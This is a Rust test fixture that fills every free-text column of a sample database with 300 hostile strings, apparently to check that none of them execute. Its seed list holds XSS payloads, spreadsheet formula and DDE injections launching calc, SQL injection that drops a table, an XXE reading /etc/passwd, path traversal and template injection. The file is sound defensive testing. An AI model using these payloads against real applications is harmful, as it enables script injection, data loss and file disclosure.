//! Texts that somebody might write into a field to do harm, and a file that has them in all of its fields.

use crate::desk::Desk;
use keheng_core::{
    App,
    db::{Op, schema},
};
use serde_json::{Value, json};

/// How many there are.
pub const TEXTS: usize = 300;

/// What is set off by whoever runs it: the page is asked for this afterwards.
pub const MARK: &str = "hostileRan";

/// Scripts, addresses, formulas, endings of whatever a text may be put into, and letters that turn, hide or stack.
const SEEDS: &[&str] = &[
    "<script>window.hostileRan=1</script>",
    "<SCRIPT SRC=http://127.0.0.1:9/x.js></SCRIPT>",
    "<img src=x onerror=\"window.hostileRan=1\">",
    "<svg onload=window.hostileRan=1>",
    "<svg><script>window.hostileRan=1</script></svg>",
    "<iframe srcdoc=\"<script>parent.hostileRan=1</script>\"></iframe>",
    "<body onload=window.hostileRan=1>",
    "<a href=\"javascript:window.hostileRan=1\">x</a>",
    "<form action=http://127.0.0.1:9/><input name=a autofocus onfocus=window.hostileRan=1>",
    "<details open ontoggle=window.hostileRan=1>",
    "<math><mtext><style><img src=x onerror=window.hostileRan=1>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "<meta http-equiv=refresh content=\"0;url=http://127.0.0.1:9/\">",
    "<base href=http://127.0.0.1:9/>",
    "<object data=http://127.0.0.1:9/x.svg></object>",
    "<image href=\"http://127.0.0.1:9/t.png\"/>",
    "<use href=\"http://127.0.0.1:9/y.svg#z\"/>",
    "<foreignObject><p onclick=window.hostileRan=1>x</p></foreignObject>",
    "<style>*{background:url(http://127.0.0.1:9/)}</style>",
    "</title><script>window.hostileRan=1</script>",
    "</textarea><script>window.hostileRan=1</script>",
    "</style><script>window.hostileRan=1</script>",
    "</script><script>window.hostileRan=1</script>",
    "--><script>window.hostileRan=1</script>",
    "]]><script>window.hostileRan=1</script>",
    "\"><script>window.hostileRan=1</script>",
    "' onmouseover='window.hostileRan=1",
    "javascript:window.hostileRan=1",
    "data:text/html,<script>window.hostileRan=1</script>",
    "&lt;script&gt;window.hostileRan=1&lt;/script&gt;",
    "&#60;script&#62;window.hostileRan=1&#60;/script&#62;",
    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    "=1+1",
    "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
    "\u{feff}=1+1",
    "\"=1+1",
    "';=1+1",
    ",=1+1",
    "'; DROP TABLE customer; --",
    "\" OR \"\"=\"",
    "%' OR 1=1 --",
    "{ $name }",
    "{{constructor.constructor('hostileRan=1')()}}",
    "${window.hostileRan=1}",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\",
    "CON",
    "\\\\127.0.0.1\\share\\x",
    "\u{202e}gpj.exe",
    "\u{2066}\u{2067}abc\u{2069}",
    "\u{200b}\u{200d}\u{2060}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}a\u{357}\u{357}l\u{340}go",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}\u{1f3ff}",
    "\u{fdfd}\u{12031}\u{2e3b}",
    "\u{0627}\u{0644}\u{0639}\u{0631}\u{0628}\u{064a}\u{0629} abc \u{05e2}\u{05d1}",
    "\u{1}\u{2}\u{7}\u{8}\u{b}\u{c}\u{1b}[31mred",
    "a\u{0}b",
    "\u{2028}\u{2029}\u{85}",
    "\u{d7ff}\u{e000}\u{fffe}\u{ffff}\u{10ffff}",
    "undefined",
    "null",
    "NaN",
    "1e309",
    "-0",
    "0x7fffffff",
    "true",
];

/// The texts: each seed as it is, behind a name, before one, and in capitals or with a tail that never ends.
pub fn texts() -> Vec<String> {
    let dressed = (0..).flat_map(|round| {
        SEEDS.iter().enumerate().map(move |(at, seed)| match round {
            0 => (*seed).to_owned(),
            1 => format!("{seed}客户{at}"),
            2 => format!("客户{at} {seed}"),
            3 => format!("{seed}{}", "长".repeat(40 + at * 12)),
            _ => format!("{at}{seed}{seed}"),
        })
    });
    dressed.take(TEXTS).collect()
}

/// Columns in which somebody writes whatever comes to mind.
const FREE: &[(&str, &[&str])] = &[
    ("customer", &["name", "account", "contact", "phone", "address", "note"]),
    (
        "shipment",
        &[
            "no",
            "product",
            "destination",
            "receiver_name",
            "receiver_phone",
            "receiver_address",
            "sender_name",
            "sender_phone",
            "order_no",
            "note",
        ],
    ),
    ("service_case", &["party", "shipment_no", "note", "no"]),
    ("tradeoff_month", &["reason"]),
    ("process_change", &["reason"]),
    ("set_aside", &["reason"]),
    ("service_element", &["name", "owner", "standard"]),
    ("corrective_action", &["what", "owner", "proof"]),
    ("cost_department", &["name"]),
    ("cost_activity", &["name"]),
    ("cost_entry", &["owner", "note", "source"]),
    ("study", &["title"]),
    ("survey_topic", &["name"]),
    ("survey_recipe", &["title"]),
];

/// Columns that hold a structure with texts in it.
const WITHIN: &[(&str, &str)] = &[
    ("survey", "form"),
    ("survey_version", "form"),
    ("survey_bank", "question"),
    ("study", "plan"),
    ("study_entry", "body"),
];

/// What is read by people in a structure: not what stands for something by its code.
fn replaced(value: &mut Value, next: &mut impl FnMut() -> String) {
    match value {
        Value::String(text) if text.chars().any(|c| c as u32 > 0x2e7f || c == ' ') => *text = next(),
        Value::Array(all) => all.iter_mut().for_each(|v| replaced(v, next)),
        Value::Object(all) => all.values_mut().for_each(|v| replaced(v, next)),
        _ => {}
    }
}

/// The sample firm with questionnaires that are out, and a study of each kind that writes sheets.
pub fn plain() -> Desk {
    let desk = Desk::bare();
    desk.call("desk.start", json!({"choice": "sample"}));
    let templates = desk.call("surveys.templates", json!({}))["templates"].clone();
    for template in templates.as_array().expect("questionnaires to begin with").iter().take(3) {
        let made = desk.call("surveys.add", json!({"template": template["id"]}));
        desk.call("surveys.publish", json!({"id": made["id"]}));
    }
    for kind in ["interview", "delphi", "group", "observation"] {
        let made = desk.call("methods.add", json!({"kind": kind, "title": "柜台 九月"}));
        if kind == "interview" {
            desk.call("interview.write", json!({"id": made["id"], "text": "您多久寄一次？\n哪里不满意？"}));
        }
    }
    desk
}

/// The same with hostile texts wherever somebody could have written one; `round` says which text comes first.
pub fn firm(round: usize) -> Desk {
    let desk = plain();
    fill(&desk.app, round);
    desk
}

/// Writes hostile texts into all fields of an open file.
pub fn fill(app: &App, round: usize) {
    let texts = texts();
    let db = app.db().expect("a file");
    let done = db
        .op(Op::EditCustomer, "", |tx| {
            let mut at = round * 75;
            let mut next = || {
                at += 1;
                texts[at % TEXTS].clone()
            };
            for (name, columns) in FREE {
                let table = schema::TABLES.iter().find(|t| t.name == *name).unwrap_or_else(|| panic!("{name}"));
                let ids: Vec<i64> = {
                    let mut all = tx.conn.prepare(&format!("SELECT id FROM {name} LIMIT 2000")).expect(name);
                    all.query_map([], |r| r.get(0)).expect(name).flatten().collect()
                };
                for id in ids {
                    for column in *columns {
                        // What has to be different stays different.
                        let own = ["no", "account"].contains(column);
                        let text = if own { format!("{} {id}", next()) } else { next() };
                        let wrote = tx.update(table, id, &[(column, &text)]);
                        wrote.unwrap_or_else(|e| panic!("{name}.{column}: {text}: {e}"));
                    }
                }
            }
            for (name, column) in WITHIN {
                let table = schema::TABLES.iter().find(|t| t.name == *name).unwrap_or_else(|| panic!("{name}"));
                let held: Vec<(i64, String)> = {
                    let sql = format!("SELECT id, {column} FROM {name} WHERE {column} IS NOT NULL");
                    let mut all = tx.conn.prepare(&sql).expect(name);
                    all.query_map([], |r| Ok((r.get(0)?, r.get(1)?))).expect(name).flatten().collect()
                };
                for (id, text) in held {
                    let Ok(mut value) = serde_json::from_str::<Value>(&text) else { continue };
                    replaced(&mut value, &mut next);
                    let wrote = tx.update(table, id, &[(column, &value.to_string())]);
                    wrote.unwrap_or_else(|e| panic!("{name}.{column}: {e}"));
                }
            }
            Ok(())
        })
        .expect("the texts are written");
    assert!(done.txn.is_some());
}
